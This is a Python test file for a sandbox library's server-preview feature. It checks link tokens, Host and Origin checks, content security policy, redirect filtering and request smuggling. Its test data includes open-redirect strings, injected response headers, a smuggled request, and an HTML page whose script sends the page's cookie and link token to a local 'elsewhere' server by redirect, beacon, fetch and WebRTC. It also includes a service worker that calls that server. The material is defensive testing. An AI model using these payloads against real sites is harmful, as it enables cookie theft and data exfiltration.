"""Servers in a session that are shown: real servers in real cells, and clients that people have."""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import json
import os
import re
import socket
import stat
import subprocess
import sys
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import websockets
from tests.contract import witness
from tests.sessions.driver import Open, cell_of
from tests.sessions.previewing import APPLICATION, LISTENS, SITE, client, cookie_of, live, name_of, visitor
from tests.support.waiting import MAX_WAIT, until_async
from tests.support.walls import skip_without

import casemate
from casemate import Denied, InvalidArgument, Sandbox, SandboxClosed, Unavailable
from casemate.languages.browser import find_browser
from casemate.model.preview import Preview
from casemate.sessions.session import Session


async def begun(session: Session, program: str) -> Session:
    (await session.run(program)).raise_for_status()
    return session


async def rows(sandbox: Sandbox, session: Session) -> list[tuple[str, dict[str, Any]]]:
    found = await sandbox.audit.tail(200)
    return [(one.kind, dict(one.detail)) for one in reversed(found) if one.run == session.id]


async def test_a_static_site_opens_by_its_link_and_is_gone_with_the_session(opened: Open) -> None:
    session = await begun(opened(), SITE)
    preview = await session.expose(8000)
    assert name_of(preview).startswith(f"8000-{session.id}.localhost:")
    async with await visitor(preview) as person:
        answer = await person.get("/")
        assert (answer.status_code, answer.text) == (200, "<h1>hello</h1>")
        assert (await person.get("/missing")).status_code == 404
        assert (await person.head("/")).headers["content-length"] == "14"
        await session.close()
        assert (await person.get("/")).status_code == 421
        with pytest.raises(SandboxClosed):
            await session.expose(8000)


async def test_nothing_listens_any_more_when_the_sandbox_is_closed(audit: Path) -> None:
    async with Sandbox(audit=audit, preload=()) as sandbox, sandbox.session() as session:
        preview = await (await begun(session, SITE)).expose(8000)
    with pytest.raises(ConnectionRefusedError):
        await asyncio.open_connection("127.0.0.1", urlsplit(preview.url).port)


async def test_an_application_gets_what_is_sent_and_nothing_of_casemates(opened: Open) -> None:
    session = await begun(opened(), APPLICATION)
    preview = await session.expose(8000)
    body = os.urandom(3_000_000)
    cookie = f"user=ann; {await cookie_of(preview)}; theme=dark"
    bearer = {"authorization": f"Bearer {cookie.partition('=casemate')[2]}"}
    async with client(preview, cookie=cookie) as person:
        told = (await person.get("/some/path?a=1&b=%20")).json()
        assert (told["path"], told["query"]) == ("/some/path", "a=1&b=%20")
        assert (told["headers"]["cookie"], told["headers"]["host"]) == ("user=ann; theme=dark", name_of(preview))
        told = (await person.get("/", headers={"authorization": "Bearer the-program's-own"})).json()
        assert told["headers"]["authorization"] == "Bearer the-program's-own"
        taken = (await person.post("/take", content=body)).json()
        assert taken == {"size": len(body), "sha256": hashlib.sha256(body).hexdigest()}

        async def pieces() -> AsyncIterator[bytes]:
            for at in range(0, len(body), 100_000):
                yield body[at : at + 100_000]

        assert (await person.put("/take", content=pieces())).json() == taken
        given = (await person.get("/give?parts=400")).content
        assert given == b"".join(b"%08d" % number * 1000 for number in range(400))
        entered = await person.post("/login", headers={"origin": f"http://{name_of(preview)}"})
        assert entered.status_code == 303
        assert [one.partition(";")[0] for one in entered.headers.get_list("set-cookie")] == ["user=ann"]
    token = cookie.partition("casemate-preview=")[2].partition(";")[0]
    bearer = {"authorization": f"Bearer {token}"}
    async with client(preview, **bearer) as program:
        assert "authorization" not in (await program.get("/")).json()["headers"]


async def test_pages_change_live_over_a_websocket_and_over_events(opened: Open) -> None:
    session = await begun(opened(), APPLICATION)
    preview = await session.expose(8000)
    cookie = await cookie_of(preview)
    origin = f"http://{name_of(preview)}"
    async with await live(preview, cookie=cookie, origin=origin) as channel:
        for text in ("one", "two" * 100_000):
            await channel.send(text)
            assert await channel.recv() == text.upper()
        async with client(preview, cookie=cookie) as person, person.stream("GET", "/changes") as changes:
            assert await anext(changes.aiter_text()) == "data: begun\n\n"
        await session.unexpose(8000)
        with pytest.raises(websockets.ConnectionClosed):
            await channel.recv()
    with pytest.raises(InvalidArgument, match="not exposed"):
        await session.unexpose(8000)


async def test_a_server_that_listens_with_ipv6_alone_is_reached(opened: Open) -> None:
    program = SITE.replace("'8000']", "'8000', '--bind', '::1']").replace("wait_for(8000)", "wait_for(8000, '::1')")
    session = await begun(opened(), program)
    async with await visitor(await session.expose(8000)) as person:
        assert (await person.get("/")).text == "<h1>hello</h1>"


async def test_who_has_no_link_or_another_name_or_page_is_refused(opened: Open, sandbox: Sandbox) -> None:
    session = await begun(opened(), SITE)
    preview, other = await session.expose(8000), await session.expose(8001)
    cookie, port = await cookie_of(preview), urlsplit(preview.url).port

    async def status(path: str = "/", **told: str) -> int:
        async with client(preview, **told) as stranger:
            return (await stranger.get(path)).status_code

    assert await status(cookie=cookie) == 200
    assert await status() == 401
    assert await status(cookie=await cookie_of(other)) == 401
    assert await status("/?casemate-token=casemate_preview_wrong", cookie=cookie) == 403
    for host in ("evil.example", f"localhost:{port}", f"127.0.0.1:{port}", f"8000-{session.id}.localhost.evil.example"):
        assert await status(host=host, cookie=cookie) == 421
    for origin in ("https://evil.example", "null", f"http://{name_of(other)}"):
        assert await status(cookie=cookie, origin=origin) == 403
        with pytest.raises(websockets.InvalidStatus):
            await live(preview, cookie=cookie, origin=origin)
    await session.close()
    denied = [one for kind, one in await rows(sandbox, session) if kind == "crossing" and one["decision"] == "denied"]
    assert [(one["port"], one["requests"]) for one in denied] == [(8000, 9)]


@pytest.mark.parametrize("third_parties", [False, True])
async def test_no_script_is_served_that_would_stay_in_a_browser(
    opened: Open, sandbox: Sandbox, third_parties: bool
) -> None:
    session = await begun(opened(), SITE)
    async with await visitor(await session.expose(8000, third_parties=third_parties)) as person:
        for asks in ({"service-worker": "script"}, {"sec-fetch-dest": "serviceworker"}):
            answer = await person.get("/", headers=asks)
            assert (answer.status_code, "a service worker" in answer.text) == (403, True)
        for asks in ({"sec-fetch-dest": "script"}, {"sec-fetch-dest": "worker"}):
            assert (await person.get("/", headers=asks)).status_code == 200
    await session.close()
    denied = [one for kind, one in await rows(sandbox, session) if kind == "crossing" and one["decision"] == "denied"]
    assert [(one["port"], one["requests"]) for one in denied] == [(8000, 2)]


async def test_a_link_leads_nowhere_else_and_leaves_no_token_behind(opened: Open) -> None:
    session = await begun(opened(), SITE)
    preview = await session.expose(8000)
    query = urlsplit(preview.url).query
    assert query.partition("=")[2] not in repr([preview, *await session.previews()])
    async with client(preview) as stranger:
        for path, place in (
            ("/a?b=1&%s&c=2", "/a?b=1&c=2"),
            ("//evil.example/?%s", "/evil.example/"),
            ("/\\evil.example/?%s", "/evil.example/"),
        ):
            request = stranger.build_request("GET", "/")
            request.url = request.url.copy_with(raw_path=(path % query).encode())
            answer = await stranger.send(request)
            assert (answer.status_code, answer.headers["location"]) == (303, place)
            assert "; HttpOnly; " in answer.headers["set-cookie"]
        framed = await stranger.get(f"/?{query}", headers={"sec-fetch-dest": "iframe"})
        assert framed.headers["set-cookie"].endswith("Secure; SameSite=None; Partitioned")


async def test_a_link_ends_and_what_it_opened_with_it(opened: Open) -> None:
    session = await begun(opened(), APPLICATION)
    long = await session.expose(8000)
    cookie = await cookie_of(long)
    async with await live(long, cookie=cookie) as kept:
        short = await session.expose(8000, expires=4)
        short_cookie = await cookie_of(short)
        channel = await live(short, cookie=short_cookie)
        with pytest.raises(websockets.ConnectionClosed):
            await channel.recv()
        async with client(short) as person:
            assert (await person.get("/", headers={"cookie": short_cookie})).status_code == 401
            assert (await person.get(f"/?{urlsplit(short.url).query}")).status_code == 403
            assert (await person.get("/", headers={"cookie": cookie})).status_code == 200
        await kept.send("still")
        assert await kept.recv() == "STILL"


async def test_pages_are_kept_to_their_server_unless_third_parties_are_allowed(opened: Open) -> None:
    session = await begun(opened(), SITE)
    preview = await session.expose(8000)
    async with await visitor(preview) as person:
        policy = (await person.get("/")).headers["content-security-policy"]
        assert policy.startswith("default-src 'self' data: blob: 'unsafe-inline'")
        assert f"connect-src 'self' data: blob: ws://{name_of(preview)};" in policy
    with pytest.raises(InvalidArgument, match="unexpose it first"):
        await session.expose(8000, third_parties=True)
    await session.unexpose(8000)
    opened_up = await session.expose(8000, third_parties=True)
    async with await visitor(opened_up) as person:
        assert "content-security-policy" not in (await person.get("/")).headers
    assert name_of(opened_up) != name_of(preview)  # its pages in caches and tabs are of another origin


async def test_previews_are_on_record_and_listed(opened: Open, sandbox: Sandbox) -> None:
    session = await begun(opened(), SITE)
    preview = await session.expose(8000, expires=100)
    listed = await session.previews()
    assert [(one.port, one.url, one.socket) for one in listed] == [(8000, preview.url.partition("?")[0], "")]
    async with await visitor(preview) as person:
        await person.get("/")
        await person.get("/")
    await session.close()
    assert await session.previews() == []
    told = [
        (kind, one.get("action") or one["reason"], one.get("requests"))
        for kind, one in await rows(sandbox, session)
        if kind in ("preview", "crossing")
    ]
    assert told == [
        ("preview", "exposed", None),
        ("preview", "linked", None),
        ("crossing", "opened by its link", None),
        ("crossing", "the session ended", 2),
        ("preview", "unexposed", None),
    ]
    last = [one for kind, one in await rows(sandbox, session) if kind == "crossing"][-1]
    assert last["bytes_out"] == 2 * len("<h1>hello</h1>")
    assert "casemate_preview_" not in json.dumps(await rows(sandbox, session))


async def test_nothing_of_the_host_answers_in_place_of_a_cells_server(opened: Open) -> None:
    session = await begun(opened(), LISTENS)
    with socket.create_server(("127.0.0.1", 0)) as ours:
        port = ours.getsockname()[1]
        async with await visitor(await session.expose(port)) as person:
            answer = await person.get("/")
        ours.setblocking(False)
        with pytest.raises(BlockingIOError):
            ours.accept()
    assert (answer.status_code, answer.text) == (
        502, "The preview cannot be reached: nothing listens at that port in the session.\n",
    )  # fmt: skip


# What a server says in answer to whatever it is asked; the second of each is what a client gets.
HOSTILE = {
    "junk": (b"SSH-2.0-server\r\n", 502),
    "an endless head": (b"HTTP/1.1 200 OK\r\n" + b"X-Long: " + b"x" * 200_000, 502),
    "a websocket that nobody wanted": (
        b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n", 502,
    ),
    "two lengths": (b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab", 502),
    "a second answer": (2 * b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\na", 200),
    "nothing": (b"", 502),
}  # fmt: skip
ANSWERING = (
    LISTENS
    + """
import threading
server = socket.create_server(('127.0.0.1', 8000))
def answer():
    while True:
        one, _ = server.accept()
        one.recv(65536)
        try:
            one.sendall(WORDS)
        except OSError:
            pass
        one.close()
threading.Thread(target=answer, daemon=True).start()
"""
)


@pytest.mark.parametrize("name", HOSTILE)
async def test_a_hostile_answer_is_one_answer_or_none(opened: Open, name: str) -> None:
    words, status = HOSTILE[name]
    session = await begun(opened(), f"WORDS = {words!r}\n{ANSWERING}")
    async with await visitor(await session.expose(8000)) as person:
        for _ in range(2):
            answer = await person.get("/")
            assert (answer.status_code, answer.text == "a" or status != 200) == (status, True)


AWAY = (
    "http://evil.example/", "https://{name}/", "//evil.example/", "/\\evil.example/", "\\\\evil.example/",
    "http:evil.example", "/\t/evil.example/", "http://{name}.evil.example/", "http://{name}@evil.example/", "http://127.0.0.1:8000/",
    "javascript:alert(1)", "http://evil.example/?\u202e",
)  # fmt: skip
WITHIN = (
    "/next",
    "next?to=http://a.example/",
    "?page=2",
    "#end",
    "../up",
    "/a:b//c",
    "http://{name}",
    "HTTP://{name}//a",
)


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308, 300])
async def test_a_redirect_to_another_site_is_a_page_that_says_where_it_leads(
    opened: Open, sandbox: Sandbox, status: int
) -> None:
    session = opened()
    answers = f"WORDS = b''\n{ANSWERING}".replace(
        "one.recv(65536)", "WORDS = open('words', 'rb').read(); one.recv(65536)"
    )
    await session.files.write("words", b"")
    preview = await (await begun(session, answers)).expose(8000)
    names = [one.format(name=name_of(preview)) for one in (*AWAY, *WITHIN)]
    async with await visitor(preview) as person:
        for number, place in enumerate(names):
            head = f"HTTP/1.1 {status} Moved\r\nContent-Length: 0\r\nSet-Cookie: state=1\r\nLocation: {place}\r\n\r\n"
            await session.files.write("words", head.encode())
            answer = await person.get("/")
            assert answer.headers["set-cookie"] == "state=1"
            if number >= len(AWAY):
                assert (answer.status_code, answer.headers["location"]) == (status, place)
            else:
                shown = place.replace("\t", "\\x09").replace("\u202e", "\\u202e")
                assert (answer.status_code, answer.text.splitlines()[-1]) == (403, shown)
                assert "location" not in answer.headers
    await session.unexpose(8000)
    await session.files.write(
        "words", b"HTTP/1.1 302 Moved\r\nContent-Length: 0\r\nLocation: http://a.example/\r\n\r\n"
    )
    async with await visitor(await session.expose(8000, third_parties=True)) as person:
        assert (await person.get("/")).headers["location"] == "http://a.example/"
    denied = [one for kind, one in await rows(sandbox, session) if kind == "crossing" and one["decision"] == "denied"]
    assert [one["requests"] for one in denied] == [len(AWAY)]


@pytest.mark.needs("browser")
async def test_a_redirect_takes_no_browser_to_another_site(opened: Open, tmp_path: Path) -> None:
    other = Elsewhere()
    async with await asyncio.start_server(other.answer, "127.0.0.1", 0) as elsewhere:
        port = elsewhere.sockets[0].getsockname()[1]
        words = f"HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: http://127.0.0.1:{port}/of-the-cell\r\n\r\n"
        session = await begun(opened(), f"WORDS = {words.encode()!r}\n{ANSWERING}")
        preview = await session.expose(8000)
        exposed = session._previews._open[8000, False]
        async with browser(preview.url, tmp_path):
            await until_async(lambda: exposed.refusals or other.asked)
    assert other.asked == set()


TO_ELSEWHERE = (
    b"Refresh: 0; url=http://evil.example/", b"Link: <http://evil.example/>; rel=preconnect", b"Alt-Svc: h2=\":444\"",
    b"Speculation-Rules: \"http://evil.example/\"", b"Clear-Site-Data: \"*\"", b"X-SourceMap: http://evil.example/",
    b"X-Accel-Redirect: /private",
    b"Content-Security-Policy-Report-Only: default-src 'none'; report-uri http://evil.example/",
    b"X-DNS-Prefetch-Control: on", b"Set-Cookie: =casemate-preview=stolen", b"Set-Cookie: casemate-preview",
    b"Set-Cookie:  Casemate-Preview=stolen", b"Set-Cookie: ;casemate-preview=stolen", b"Set-Cookie: =",
)  # fmt: skip
HONEST = {
    "set-cookie": "user=ann=1; Path=/; HttpOnly", "etag": '"1"', "location": "/next", "x-total-count": "3",
    "hx-trigger": "saved", "cross-origin-opener-policy": "same-origin", "content-disposition": "inline",
}  # fmt: skip


@pytest.mark.parametrize("third_parties", [False, True])
async def test_no_header_has_a_browser_ask_somebody_else(opened: Open, third_parties: bool) -> None:
    honest = b"".join(f"{name}: {value}\r\n".encode() for name, value in HONEST.items())
    words = b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\n%b\r\n%b\r\na" % (b"\r\n".join(TO_ELSEWHERE), honest)
    session = await begun(opened(), f"WORDS = {words!r}\n{ANSWERING}")
    async with await visitor(await session.expose(8000, third_parties=third_parties)) as person:
        told = (await person.get("/")).headers
    assert [told.get_list(name) for name in HONEST] == [[value] for value in HONEST.values()]
    assert "alt-svc" not in told
    ours = {"content-security-policy", "connection-allowlist", "referrer-policy", "x-dns-prefetch-control"}
    if not third_parties:
        assert told.keys() == {*HONEST, *ours, "content-length"}
        assert told.get_list("x-dns-prefetch-control") == ["off"]


async def test_others_have_their_turn_while_a_server_answers_byte_by_byte(opened: Open) -> None:
    words = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + 5_000 * b"1\r\na\r\n" + b"0\r\n\r\n"
    session = await begun(opened(), f"WORDS = {words!r}\n{ANSWERING}")
    preview = await session.expose(8000)
    exposed = session._previews._open[8000, False]
    most = 0

    async def watch() -> None:
        nonlocal most
        before = 0
        while True:
            await asyncio.sleep(0)
            before, most = exposed.bytes_out, max(most, exposed.bytes_out - before)

    async with await visitor(preview) as person:
        watching = asyncio.create_task(watch())
        answer = await person.get("/")
        watching.cancel()
    assert answer.text == 5_000 * "a"
    assert most < 100  # bytes in one turn of the event loop


async def test_each_request_of_a_connection_is_judged(opened: Open) -> None:
    """A second request is sent at once behind the first: with another name, without a link, and hidden in its body."""
    session = await begun(opened(), APPLICATION)
    preview = await session.expose(8000)
    cookie, name = await cookie_of(preview), name_of(preview)
    first = f"GET /first HTTP/1.1\r\nHost: {name}\r\nCookie: {cookie}\r\n"
    for second, status in (
        (f"GET /second HTTP/1.1\r\nHost: {name}\r\nCookie: {cookie}\r\n\r\n", 200),
        (f"GET /second HTTP/1.1\r\nHost: {name}\r\n\r\n", 401),
        ("GET /second HTTP/1.1\r\nHost: evil.example\r\n\r\n", 421),
    ):
        reader, writer = await asyncio.open_connection("127.0.0.1", urlsplit(preview.url).port)
        writer.write(f"{first}\r\n{second}".encode())
        assert b" 200 " in await reader.readline()
        text = b""
        while (at := text.find(b"HTTP/1.1 ")) < 0 or b"\r\n" not in text[at:]:
            text += await reader.read(4096)
        assert f"HTTP/1.1 {status} ".encode() in text
        writer.close()
    reader, writer = await asyncio.open_connection("127.0.0.1", urlsplit(preview.url).port)
    writer.write(f"{first}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /".encode())
    assert b" 400 " in await reader.readline()
    writer.close()


async def test_a_preview_waits_while_its_cell_is_paused_and_goes_on_with_it(audit: Path) -> None:
    async with Sandbox(audit=audit, preload=()) as sandbox, sandbox.session() as session:
        init = (await cell_of(await begun(session, SITE)))[0]
        sandbox.approvals.rules.set_default("shell", "ask")
        async with await visitor(await session.expose(8000)) as person:
            with sandbox.approvals.open():
                step = asyncio.ensure_future(session.run("!echo one"))
                [request] = await until_async(sandbox.approvals.pending, "nothing was asked")
                await until_async(lambda: all(witness.state(pid) in "TtZ" for pid in witness.descendants(init)))
                waiting = asyncio.ensure_future(person.get("/"))
                await asyncio.wait([waiting], timeout=0.3)
                assert not waiting.done()
                assert await request.approve()
                assert (await waiting).text == "<h1>hello</h1>"
                assert (await step).stdout == "one\n"


async def test_a_session_that_begins_anew_shows_its_new_server(opened: Open) -> None:
    session = await begun(opened(), SITE)
    async with await visitor(await session.expose(8000)) as person:
        await session.reset()
        assert (await person.get("/")).status_code == 502
        await begun(session, SITE.replace("hello", "again"))
        assert (await person.get("/")).text == "<h1>again</h1>"


async def test_a_unix_socket_shows_whatever_speaks_tcp(opened: Open) -> None:
    session = await begun(opened(), f"WORDS = b'SSH-2.0-server\\r\\n'\n{ANSWERING}")
    preview = await session.expose(8000, unix=True)
    assert (preview.url, preview.expires) == ("", None)
    folder = Path(preview.socket).parent.stat()
    assert (stat.S_IMODE(folder.st_mode), folder.st_uid) == (0o700, os.geteuid())
    reader, writer = await asyncio.open_unix_connection(preview.socket)
    writer.write(b"hello\r\n")
    assert await reader.read() == b"SSH-2.0-server\r\n"
    writer.close()
    await session.close()
    with pytest.raises(OSError, match=r"refused|No such file"):
        await asyncio.open_unix_connection(preview.socket)


async def test_a_policy_switches_previews_off(audit: Path) -> None:
    async with Sandbox(audit=audit, preload=(), policy={"previews": False}) as sandbox, sandbox.session() as session:
        with pytest.raises(Denied, match="previews: false"):
            await session.expose(8000)


async def test_a_session_that_is_closed_meanwhile_shows_nothing(opened: Open) -> None:
    session = opened()
    results = await asyncio.gather(*(session.expose(8000) for _ in range(3)), session.close(), return_exceptions=True)
    assert {type(one) for one in results[:3]} <= {SandboxClosed, Preview, Unavailable}
    for preview in (one for one in results if isinstance(one, Preview)):
        async with client(preview) as person:
            assert (await person.get("/")).status_code == 421
    assert await session.previews() == []


async def test_what_is_no_port_or_time_is_an_error(session: Session) -> None:
    for port in (0, 65536, "8000", True, 1.5):
        with pytest.raises(InvalidArgument, match="port"):
            await session.expose(port)  # type: ignore[arg-type]
    for seconds in (0, float("nan"), 40 * 86400, None):
        with pytest.raises(InvalidArgument, match="expires"):
            await session.expose(8000, expires=seconds)  # type: ignore[arg-type]


def test_the_example_of_the_documentation_does_what_it_says(tmp_path: Path) -> None:
    root = Path(__file__).resolve().parents[2]
    example = root / "examples" / "previews.py"
    assert f"```python\n{example.read_text()}```\n" in (root / "docs" / "how-to" / "previews.md").read_text()
    env = {**os.environ, "XDG_STATE_HOME": str(tmp_path), "PYTHONPATH": str(Path(casemate.__file__).parents[1])}
    ran = subprocess.run([sys.executable, example], env=env, capture_output=True, text=True, check=False)
    link, listed = ran.stdout.splitlines()
    assert listed == str([(8000, link.partition("?")[0])]), ran.stderr


async def test_a_wall_without_networks_of_its_own_shows_nothing(tmp_path_factory: pytest.TempPathFactory) -> None:
    skip_without("landlock", tmp_path_factory)
    audit = tmp_path_factory.mktemp("audit") / "audit.db"
    async with Sandbox(audit=audit, preload=(), isolation="landlock") as sandbox, sandbox.session() as session:
        with pytest.raises(Unavailable, match="landlock wall cannot expose servers"):
            await session.expose(8000)


# What it finds out it says to its own server. At last it leaves for elsewhere.
PAGE = """
<script type=speculationrules>{{"prefetch": [{{"urls": ["{elsewhere}/ahead"], "eagerness": "immediate"}}]}}</script>
<link rel=preconnect href="{elsewhere}"><link rel=stylesheet href="{elsewhere}/style">
<img src="{elsewhere}/image"><script src="{elsewhere}/script"></script>
<iframe src="{elsewhere}/frame"></iframe><object data="{elsewhere}/object"></object>
<script>
let missing = 5;
const say = async text => {{
    await fetch('/said/' + encodeURIComponent(text));
    if (--missing) return;
    addEventListener('pagehide', () => navigator.sendBeacon('/end'));
    setTimeout(() => fetch('/end'), 1000);
    location = '{elsewhere}/left?' + document.cookie;
}};
document.cookie = 'all=1; domain=localhost';
say('cookie ' + document.cookie);
say('link ' + location.search);
navigator.sendBeacon('{elsewhere}/beacon', 'secret');
const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{stun}'}}]}});
peer.createDataChannel('data');
peer.createOffer().then(offer => peer.setLocalDescription(offer)).then(() => say('offered'));
fetch('{elsewhere}/fetch', {{mode: 'no-cors'}}).catch(() => 0).then(() => say('asked'));
const live = new WebSocket('ws://' + location.host + '/live');
live.onopen = () => live.send('live');
live.onmessage = event => new EventSource('/changes').onmessage = one => say(event.data + one.data);
</script>
"""
EVERYWHERE = {
    "/ahead", "/beacon", "/fetch", "/frame", "/image", "/left?", "/report", "/script", "/style", "stun",
}  # fmt: skip


class Elsewhere(asyncio.DatagramProtocol):
    """Another host, and what it was asked, with TCP and UDP."""

    def __init__(self) -> None:
        self.asked: set[str] = set()

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.asked.add("stun")

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.asked.add((await reader.readline()).decode().partition(" ")[2].partition(" ")[0] or "connected ahead")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        writer.close()


@pytest.mark.needs("browser")
@pytest.mark.parametrize("third_parties", [False, True])
async def test_a_page_in_a_browser_works_and_reaches_another_host_only_where_that_is_allowed(
    opened: Open, third_parties: bool, tmp_path: Path
) -> None:
    session, other = await begun(opened(), APPLICATION), Elsewhere()
    udp, _ = await asyncio.get_running_loop().create_datagram_endpoint(lambda: other, ("127.0.0.1", 0))
    async with await asyncio.start_server(other.answer, "127.0.0.1", 0) as elsewhere:
        there = f"http://127.0.0.1:{elsewhere.sockets[0].getsockname()[1]}"
        page = PAGE.format(elsewhere=there, stun=udp.get_extra_info("sockname")[1])
        await session.files.write("page.html", page)
        own = {"Content-Security-Policy": f"object-src 'none',report-uri {there}/report; object-src 'none'"}
        await session.files.write("headers.json", json.dumps(own))
        preview = await session.expose(8000, third_parties=third_parties)
        try:
            log = await visited(
                session, preview.url.replace("/?", "/page?"), tmp_path,
                lambda log: " /end " in log and (not third_parties or other.asked >= EVERYWHERE),
            )  # fmt: skip
        finally:
            udp.close()
    assert set(re.findall(r"/said/(\S+)", log)) == {"cookie%20", "link%20", "offered", "asked", "LIVEbegun"}
    assert third_parties or other.asked == set()


REGISTERS = """
<script>
const worker = navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready);
worker.then(() => { location = '/by-worker'; }, () => fetch('/said/refused').then(() => fetch('/end')));
</script>
"""
WORKER = """
const page = `<script>fetch('{elsewhere}/page', {{mode: 'no-cors'}}).then(() => fetch('/end'))</script>`;
addEventListener('install', () => skipWaiting());
addEventListener('activate', event => event.waitUntil(clients.claim()));
addEventListener('fetch', event => new URL(event.request.url).pathname == '/by-worker' &&
    event.respondWith(new Response(page, {{headers: {{'content-type': 'text/html'}}}})));
fetch('{elsewhere}/worker', {{mode: 'no-cors'}});
"""


@pytest.mark.needs("browser")
@pytest.mark.parametrize("third_parties", [False, True])
async def test_a_page_leaves_no_worker_in_a_browser_that_answers_without_a_policy(
    opened: Open, third_parties: bool, tmp_path: Path
) -> None:
    session, other = opened(), Elsewhere()
    async with await asyncio.start_server(other.answer, "127.0.0.1", 0) as elsewhere:
        there = f"http://127.0.0.1:{elsewhere.sockets[0].getsockname()[1]}"
        await session.files.write("page.html", REGISTERS)
        await session.files.write("worker.js", WORKER.format(elsewhere=there))
        await begun(session, SITE.replace("stderr=subprocess.DEVNULL", "stderr=open('server.log', 'w')"))
        preview = await session.expose(8000, third_parties=third_parties)
        log = await visited(session, preview.url.replace("/?", "/page.html?"), tmp_path, lambda log: " /end " in log)
    assert (re.findall(r"/said/(\S+)", log), other.asked) == (["refused"], set())


@contextlib.asynccontextmanager
async def browser(url: str, folder: Path) -> AsyncIterator[None]:
    """A browser that has opened ``url``."""
    process = await asyncio.create_subprocess_exec(
        find_browser()[0], "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={folder}",
        "--remote-debugging-port=0", url, stderr=asyncio.subprocess.DEVNULL,
    )  # fmt: skip
    try:
        yield
    finally:
        process.kill()
        await process.wait()


async def visited(session: Session, url: str, folder: Path, is_done: Callable[[str], bool]) -> str:
    """What the session's server has logged of a browser at ``url``, once that is done."""
    log = ""
    async with browser(url, folder), asyncio.timeout(MAX_WAIT):
        while not is_done(log):
            log = await session.files.read_text("server.log")
    return log
